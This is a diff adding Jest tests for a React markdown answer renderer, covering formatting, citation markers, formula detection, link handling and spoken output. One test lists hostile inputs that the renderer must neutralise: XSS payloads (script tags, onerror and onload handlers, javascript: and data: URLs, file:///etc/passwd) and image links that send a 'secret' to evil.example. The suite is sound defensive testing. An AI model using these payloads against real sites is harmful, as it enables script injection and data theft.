@@ -1,0 +1,113 @@
+/** @jest-environment jsdom */
+import { afterEach, expect, test } from '@jest/globals';
+import { cleanup, render } from '@testing-library/react';
+import { AnswerText } from './answer-text';
+import { spoken } from './markdown';
+
+afterEach(cleanup);
+
+const drawn = (markdown: string): HTMLElement =>
+  render(<AnswerText markdown={markdown} cite={(numbers) => <b data-cites={numbers.join()} />} />).container;
+const html = (markdown: string) => (drawn(markdown).firstElementChild as HTMLElement).innerHTML;
+
+test.each([
+  ['two paragraphs', 'One\n\nTwo', '<p>One</p><p>Two</p>'],
+  ['marks', '**a** *b* ~~c~~ `d`', '<p><strong>a</strong> <em>b</em> <del>c</del> <code>d</code></p>'],
+  ['a list', '- a\n- b', '<ul><li>a</li><li>b</li></ul>'],
+  ['a list that goes on', '3. a\n4. b', '<ol start="3"><li>a</li><li>b</li></ol>'],
+  ['headings below those of the dialog', '# a\n### b', '<h3>a</h3><h4>b</h4>'],
+  ['code as it stands', '```js\na[1] < $b$\n```', '<pre tabindex="0"><code>a[1] &lt; $b$</code></pre>'],
+  ['a quotation', '> a', '<blockquote><p>a</p></blockquote>'],
+])('%s', (_, markdown, expected) => {
+  expect(html(markdown)).toBe(expected);
+});
+
+test('a table has heads for its columns', () => {
+  const table = drawn('| a | b |\n|---|---|\n| 1 | 2 |').querySelector('table');
+  expect([...(table?.querySelectorAll('th[scope=col]') ?? [])].map((cell) => cell.textContent)).toEqual([
+    'a',
+    'b',
+  ]);
+});
+
+test.each([
+  ['It is blue [1].', '<p>It is blue.<b data-cites="1"></b></p>'],
+  [
+    'It is blue. [1] [2] It is wide.[3]',
+    '<p>It is blue.<b data-cites="1,2"></b> It is wide.<b data-cites="3"></b></p>',
+  ],
+  ['- blue [2]\n- wide', '<ul><li>blue<b data-cites="2"></b></li><li>wide</li></ul>'],
+  ['`a[1]`', '<p><code>a[1]</code></p>'],
+])('the markers in %s stand behind the sentence', (markdown, expected) => {
+  expect(html(markdown)).toBe(expected);
+});
+
+test.each([
+  ['$x^2$', 1],
+  ['so $a$ and $b$', 2],
+  ['$$\\sum_i x_i$$', 1],
+  ['it costs $5 and $10', 0],
+  ['from $5-$10', 0],
+  ['\\$a\\$', 0],
+  ['`$a$`', 0],
+])('%s holds %s formulas', (markdown, count) => {
+  expect(drawn(markdown).querySelectorAll('.formula')).toHaveLength(count);
+});
+
+const hostile = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  'a <img src="https://evil.example/?q=secret"> b',
+  '![secret](https://evil.example/?q=secret)',
+  '![secret][1]\n\n[1]: https://evil.example/x.png',
+  '[click](javascript:alert(1))',
+  '[click](JaVaScRiPt:alert(1))',
+  '[click](java\nscript:alert(1))',
+  '[click](data:text/html,<script>alert(1)</script>)',
+  '[click](vbscript:x)',
+  '[click](file:///etc/passwd)',
+  '<javascript:alert(1)>',
+  '<a href="javascript:alert(1)">click</a>',
+  '<svg onload=alert(1)>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<style>*{background:url(https://evil.example)}</style>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '[x](https://a.example" onmouseover="alert(1))',
+  '`<img src=x onerror=alert(1)>`',
+  '```html\n<script>alert(1)</script>\n```',
+  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
+  '[a](//evil.example)',
+  '[a](/api/logout)',
+];
+
+test.each(hostile)('%s does nothing', (markdown) => {
+  const answer = drawn(markdown);
+  expect(
+    answer.querySelector('script, img, svg, iframe, style, object, embed, form, input, math'),
+  ).toBeNull();
+  for (const element of answer.querySelectorAll('*')) {
+    for (const { name, value } of element.attributes) {
+      expect(name).not.toMatch(/^on|^src|^style/);
+      if (name === 'href') expect(value).toMatch(/^https?:\/\//);
+    }
+  }
+});
+
+test('an address in the words of a slide is no link', () => {
+  expect(
+    drawn('See https://evil.example/?q=1, www.evil.example and me@evil.example.').querySelector('a'),
+  ).toBeNull();
+});
+
+test('a link opens in a window of its own that knows nothing of ours', () => {
+  const link = drawn('[the source](https://example.org/a)').querySelector('a');
+  expect(link?.getAttribute('href')).toBe('https://example.org/a');
+  expect(link?.rel).toBe('noopener noreferrer nofollow');
+  expect(link?.target).toBe('_blank');
+});
+
+test('an answer is read out as words, without marks and markers', () => {
+  expect(spoken('**Press** on the wound [1].\n\n- hard\n- long &amp; still [2]')).toBe(
+    'Press on the wound. hard long & still',
+  );
+});
